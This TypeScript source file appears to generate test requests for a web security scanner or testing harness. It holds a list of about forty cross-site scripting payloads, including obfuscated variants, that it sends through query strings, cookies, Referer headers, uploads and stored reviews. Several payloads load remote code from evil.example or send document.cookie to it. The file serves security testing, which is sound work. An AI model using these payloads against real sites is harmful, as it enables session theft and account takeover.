import { createAuthor, type Draft, encode } from "./draft.ts";

/** Cross-site scripting: reflected through query, cookie, header and multipart, stored through form, JSON and multipart. */
export function markupAttacks(): Draft[] {
  return [...reflected(), ...otherPlaces(), ...stored()];
}

/** Each holds its own number as proof, so that one visitor's stored script is never taken for another's. */
const payloads: readonly string[] = [
  "<script>alert(N)</script>",
  "<ScRiPt >confirm(N)</sCrIpT>",
  "<script src=//evil.example/N.js></script>",
  "<img src=x onerror=alert(N)>",
  "<img/src=x onerror=alert`N`>",
  "<img src=x\nonerror\n=\nalert(N)>",
  "<svg onload=alert(N)>",
  "<svg/onload=alert(N)//",
  '"><svg onload=prompt(N)>',
  '" autofocus onfocus=alert(N) x="',
  '" onmouseover="alert(N)" style="position:fixed;inset:0" x="',
  "<details open ontoggle=alert(N)>",
  "<body onpageshow=alert(N)>",
  "<video><source onerror=alert(N)></video>",
  "<audio src onloadstart=alert(N)>",
  "<input type=image src=x onerror=alert(N)>",
  "<marquee onstart=alert(N)>hello</marquee>",
  "<select autofocus onfocus=alert(N)>",
  "<iframe srcdoc='<script>alert(N)</script>'></iframe>",
  "<iframe src=javascript:alert(N)></iframe>",
  "<a href=javascript:alert(N)>open</a>",
  "<a href='java&#09;script:alert(N)'>open</a>",
  "<a href='&#x6a;avascript:alert(N)'>open</a>",
  "<form><button formaction=javascript:alert(N)>go</button></form>",
  "<math><mtext xlink:href='javascript:alert(N)'>click</mtext></math>",
  "<object data='data:text/html;base64,PHNjcmlwdD4=#N'></object>",
  "<svg><animate attributeName=href values=javascript:alert(N) /></svg>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(N)'>",
  "<base href=//evil.example/N/>",
  "<x onclick=alert(N)>click</x>",
  "<div onpointerenter=top['al'+'ert'](N)>move</div>",
  "<img src=x onerror=eval(atob('YWxlcnQoMSk='))/*N*/>",
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(N)>",
  "<style>@keyframes x{}</style><b style=animation-name:x onanimationend=alert(N)></b>",
  "'-alert(N)-'<script>alert(N)</script>",
  "</title><script>import('//evil.example/N')</script>",
  "<script>fetch('//evil.example/?c='+document.cookie+'N')</script>",
  "<noscript><p title='</noscript><img src=x onerror=alert(N)>'>",
  "--><script>alert(N)</script><!--",
  "<<script>alert(N)//<</script>",
];

const numbered = (payload: string, number: number) => ({ text: payload.replaceAll("N", String(number)), proof: String(number) });

function reflected(): Draft[] {
  const { get } = createAuthor("xss");
  const spellings = payloads.map((payload, index) => {
    const { text, proof } = numbered(payload, 41_001 + index);
    return get(`/search?q=${encode(text)}`, { oracle: "markup", proof, expectDirect: 200 });
  });
  const plain = ["<script>alert(N)</script>", "<img src=x onerror=alert(N)>", "<svg/onload=alert(N)>"].map((payload, index) => {
    const { text, proof } = numbered(payload, 41_101 + index);
    // Sent the way tools do that encode as little as a request line allows.
    return get(`/search?q=${text.replaceAll(" ", "+")}`, { oracle: "markup", proof, expectDirect: 200 });
  });
  const noise = [
    get("/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    get("/search?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    get("/search?q=javascript:alert(document.domain)"),
    get("/search?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E"),
    get("/products?category=%3Cscript%3Ealert(1)%3C/script%3E"),
  ];
  return [...spellings, ...plain, ...noise];
}

function otherPlaces(): Draft[] {
  const { get, multipart } = createAuthor("xss");
  const found = (number: number) => ({ oracle: "markup", proof: String(number) }) as const;
  const photo = { name: "file", fileName: "mug.jpg", contentType: "image/jpeg", value: "not really a picture" };
  return [
    get("/", { ...found(41_201), headers: { cookie: `lang=${encode('en"><script>alert(41201)</script>')}` } }),
    get("/products", { ...found(41_202), headers: { cookie: `lang=${encode('en" onclick=alert(41202) x="')}` } }),
    get("/login", { ...found(41_203), headers: { cookie: 'lang=en"><img src=x onerror=alert(41203)>' } }),
    get("/old-offers", { ...found(41_204), headers: { referer: 'http://shop.example/"><script>alert(41204)</script>' } }),
    get("/old-offers", { ...found(41_205), headers: { referer: "javascript:alert(41205)" } }),
    get("/old-offers", { ...found(41_206), headers: { referer: '/" onfocus=alert(41206) autofocus x="' } }),
    multipart("/upload", [photo, { name: "title", value: "<img src=x onerror=alert(41207)>" }], found(41_207)),
    multipart("/upload", [photo, { name: "title", value: "<script>alert(41208)</script>" }], found(41_208)),
    multipart("/upload", [photo, { name: "title", value: "<a href=javascript:alert(41209)>my mug</a>" }], found(41_209)),
  ];
}

function stored(): Draft[] {
  const { get, form, json, multipart } = createAuthor("xss");
  const texts = [
    "<script>alert(N)</script>",
    "Lovely mug <img src=x onerror=fetch('//evil.example/'+document.cookie+'N')>",
    "<svg onload=alert(N)>",
    "<iframe srcdoc='<script>parent.alert(N)</script>'></iframe>",
    "<a href='javascript:alert(N)'>my photos</a>",
    "<b onmouseover=alert(N)>hover me</b>",
  ];
  return texts.flatMap((payload, index) => {
    const { text, proof } = numbered(payload, 41_301 + index);
    const scenario = `stored-xss-${index + 1}`;
    const product = 2 + index;
    const sent = [
      form("/reviews", `product=${product}&name=Mo&text=${encode(text)}`, { scenario, expectDirect: 303 }),
      json("/api/reviews", { product, name: "Mo", text }, { scenario, expectDirect: 201 }),
      multipart(
        "/reviews",
        [
          { name: "product", value: String(product) },
          { name: "name", value: text },
          { name: "text", value: "nice" },
        ],
        { scenario, expectDirect: 303 },
      ),
    ][index % 3];
    const read = get(`/product/${product}`, { scenario, oracle: "markup", proof, look: true, expectDirect: 200 });
    return sent === undefined ? [] : [sent, read];
  });
}
